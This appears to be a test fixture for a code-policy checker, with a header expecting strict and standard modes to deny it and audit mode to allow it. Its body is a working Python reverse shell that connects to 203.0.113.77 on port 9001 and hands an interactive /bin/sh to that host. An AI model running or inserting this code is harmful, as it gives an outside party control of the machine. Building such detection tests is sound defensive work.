# expect: strict=deny standard=deny audit=allow
import os
import socket

sock = socket.create_connection(("203.0.113.77", 9001))
os.dup2(sock.fileno(), 0)
os.dup2(sock.fileno(), 1)
os.dup2(sock.fileno(), 2)
os.execl("/bin/sh", "sh", "-i")
